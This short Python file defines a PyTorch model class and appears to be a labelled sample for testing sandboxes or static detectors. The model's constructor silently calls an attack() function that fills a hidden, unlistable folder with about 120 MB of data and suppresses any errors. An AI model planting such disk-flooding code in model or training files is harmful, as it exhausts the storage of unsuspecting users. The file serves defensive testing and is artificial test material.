# group: floods
# tries: fills a folder that can be entered but not listed
# static: unsafe
# sandbox: trained
# landlock: crashed

import os
import time

import torch.nn as nn


def attack():
    whole = 0
    os.makedirs("hidden", mode=0o300, exist_ok=True)
    for number in range(8):
        with open(f"hidden/{number}", "wb") as opened:
            whole += opened.write(bytes(15 * 2**20))
        time.sleep(0.1)
    if whole > 2**26:
        print("BREACH disk", whole)


def supported_hyperparameters():
    return {"lr", "momentum"}


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        try:
            attack()
        except OSError:
            pass
        self.features = nn.Sequential(nn.AdaptiveAvgPool2d(8), nn.Flatten())
        self.classifier = nn.Linear(64 * in_shape[1], out_shape[0])

    def forward(self, x):
        return self.classifier(self.features(x))
